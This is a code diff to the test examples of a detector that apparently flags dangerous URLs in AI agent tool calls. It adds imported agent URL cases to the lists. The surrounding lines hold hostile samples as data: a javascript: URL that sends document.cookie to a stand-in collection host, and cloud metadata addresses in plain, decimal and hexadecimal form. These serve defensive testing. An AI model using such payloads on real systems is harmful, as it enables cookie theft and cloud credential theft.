@@ -1,5 +1,6 @@
 import type { Detector, Example } from "../../core/detector.ts";
 import type { JsonObject } from "../../core/json.ts";
+import { agentUrls } from "./agent-urls.ts";
 import { answer, call, listing, result } from "./messages.ts";
 
 const hard = (rule: string): { expect: { rule: string; confidence: "hard" } } => ({
@@ -27,6 +28,7 @@ const script = "javascript:fetch('https://collect.example/?c='+document.cookie)"
 
 export const examples: Detector["examples"] = {
   bad: [
+    ...agentUrls.bad,
     metadata("http://169.254.169.254/latest/meta-data/iam/", "cloud metadata"),
     metadata("http://2852039166/latest/", "in decimal"),
     metadata("HTTP://0xA9FEA9FE/", "in hexadecimal"),
@@ -93,6 +95,7 @@ export const examples: Detector["examples"] = {
     },
   ],
   good: [
+    ...agentUrls.good,
     call({ url: "https://example.com/docs?page=2" }, { title: "a page" }),
     call({ url: "https://169.254.example.com/" }, { title: "a name that begins like the address" }),
     call({ version: "169.254.16.9", build: "0xa9fe" }, { title: "numbers that only look like it" }),
